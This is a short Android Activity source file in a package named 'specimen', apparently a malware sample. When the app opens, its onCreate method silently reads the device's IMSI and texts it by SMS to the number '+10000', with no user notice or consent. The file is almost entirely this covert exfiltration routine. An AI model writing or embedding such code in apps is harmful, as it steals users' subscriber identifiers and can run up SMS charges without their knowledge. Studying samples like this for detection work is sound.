package com.example.specimen;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        setContentView(R.layout.main);
        SmsManager.getDefault().sendTextMessage("+10000", null, Imsi.read(this), null, null);
    }
}
